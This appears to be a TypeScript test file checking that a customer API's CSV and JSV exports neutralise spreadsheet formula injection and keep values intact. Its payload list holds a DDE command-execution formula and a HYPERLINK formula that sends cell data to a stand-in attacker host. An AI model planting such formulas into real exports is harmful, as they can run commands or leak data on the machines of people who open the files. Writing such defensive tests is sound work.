import { once } from 'node:events';
import { type IncomingHttpHeaders, type IncomingMessage, request } from 'node:http';
import { text } from 'node:stream/consumers';
import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { readJsv } from '../../../src/engine/formats/jsv-reader';
import { Attacker } from './attacker';

/** Texts that spreadsheets run, and texts that separate: what people save is harmless, what programs read is what was stored. */
let attacker: Attacker;
beforeAll(async () => {
  attacker = await Attacker.open();
});
afterAll(() => attacker?.close());

const formulas = [
  `=cmd|'/c calc'!A0`,
  '=HYPERLINK("http://evil.example?x="&A1)',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\uff1d1+1',
  'a;=1+1',
  'a\t=1+1',
];
const separators = ['a,b', 'say "hi"', "it's", 'a;b', '{a:b}', '[a,b]', 'a:b', '"', '""', '{', '[', ',', '\\', 'å"ä,ö'];

let count = 0;
async function stored(text: string): Promise<string> {
  const created = await attacker.send({
    path: '/api/CreateCustomer',
    user: 'admin@missive.test',
    body: { Firstname: text, Lastname: `x${text}`, Phone: '+46701740605', Email: `csv${++count}@example.org` },
  });
  expect([text, created.status]).toEqual([text, 200]);
  return (JSON.parse(created.text) as { Id: string }).Id;
}
function read(path: string) {
  return attacker.send({ verb: 'GET', path, user: 'admin@missive.test' });
}
/** As a browser does, whose headers `fetch` does not let anybody write. */
async function browse(
  path: string,
  headers: Record<string, string>,
): Promise<{ headers: IncomingHttpHeaders; text: string }> {
  const bearer = (await attacker.app.clientFor('admin@missive.test')).bearerToken;
  const asked = request(`${attacker.app.url}${path}`, { headers: { authorization: `Bearer ${bearer}`, ...headers } });
  asked.end();
  const [response] = (await once(asked, 'response')) as [IncomingMessage];
  return { headers: response.headers, text: await text(response) };
}
function firstnameIn(csv: string): string | undefined {
  const [row] = parseCsv(csv, { columns: true }) as { Firstname: string }[];
  return row?.Firstname;
}

const people: readonly (readonly [who: string, headers: Record<string, string>])[] = [
  ['a page that is opened', { 'sec-fetch-dest': 'document', 'sec-fetch-mode': 'navigate' }],
  ['a frame', { 'sec-fetch-dest': 'iframe', 'sec-fetch-mode': 'navigate' }],
  ['a link that downloads', { 'sec-fetch-dest': 'empty', 'sec-fetch-mode': 'no-cors' }],
];

describe.each(people)('a table that %s saves', (_who, headers) => {
  it.each(formulas)('reliability 3.2 #10 holds no formula: %j', async (formula) => {
    const id = await stored(formula);

    const saved = await browse(`/api/CustomerQuery.csv?CustomerId=${id}`, headers);

    const shown = firstnameIn(saved.text) ?? '';
    expect(shown.replaceAll("'", '')).toBe(formula.replaceAll("'", ''));
    expect(shown).toMatch(/^'[=+\-@\uff1d]|^a[;\t]'=/);
    expect(saved.headers['content-disposition']).toBe('attachment;filename="CustomerQuery.csv"');
    expect(saved.headers['x-content-type-options']).toBe('nosniff');
  });
});

it.each(['/api/CustomerQuery.csv', '/customers.csv', '/csv/reply/CustomerQuery', '/api/CustomerQuery?format=csv'])(
  'reliability 3.2 #10 %s is a file with a type that nobody guesses',
  async (path) => {
    const { headers, status } = await read(path);

    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv');
    expect(headers.get('content-disposition')).toMatch(/^attachment;filename="CustomerQuery\.csv"$/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
  },
);

it.each([...formulas, ...separators])(
  'reliability 3.2 #10 programs read %j back from CSV and JSV as it was',
  async (text) => {
    const id = await stored(text);

    const csv = await read(`/api/CustomerQuery.csv?CustomerId=${id}`);
    const jsv = await read(`/jsv/reply/CustomerQuery?CustomerId=${id}`);
    const { Results } = readJsv(jsv.text, 32) as { Results: { Firstname: string }[] };

    expect(firstnameIn(csv.text)).toBe(text.trim());
    expect(Results[0]?.Firstname).toBe(text.trim());
  },
);

it('reliability 3.2 #10 no text adds a row or a column, or is lost (fast-check)', async () => {
  const texts = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', ',', ';', '"', "'", '{', '}', '[', ']', ':', '\\', 'a', '1'),
    minLength: 1,
    maxLength: 12,
  });
  await fc.assert(
    fc.asyncProperty(texts, async (text) => {
      const id = await stored(text);
      const csv = await read(`/api/CustomerQuery.csv?CustomerId=${id}`);
      const jsv = await read(`/jsv/reply/CustomerQuery?CustomerId=${id}`);

      expect(parseCsv(csv.text)).toHaveLength(2);
      expect(firstnameIn(csv.text)).toBe(text);
      expect((readJsv(jsv.text, 32) as { Results: object[] }).Results).toMatchObject([{ Firstname: text }]);
    }),
    { numRuns: 60, seed: 10 },
  );
});

it('reliability 3.2 #10 line breaks in a name stay in its cell, NUL is refused', async () => {
  const id = await stored('a\r\n=1,2\r\n=3');
  const nul = await attacker.send({
    path: '/api/CreateCustomer',
    user: 'admin@missive.test',
    body: { Firstname: 'a\0=1', Lastname: 'x', Phone: '+46701740605' },
  });

  const csv = await read(`/api/CustomerQuery.csv?CustomerId=${id}`);
  const saved = await browse(`/api/CustomerQuery.csv?CustomerId=${id}`, { 'sec-fetch-mode': 'navigate' });

  expect([nul.status, nul.fields]).toEqual([400, ['Firstname']]);
  expect(firstnameIn(csv.text)).toBe('a\r\n=1,2\r\n=3');
  expect(firstnameIn(saved.text)).toBe("a\r\n'=1,2\r\n'=3");
});
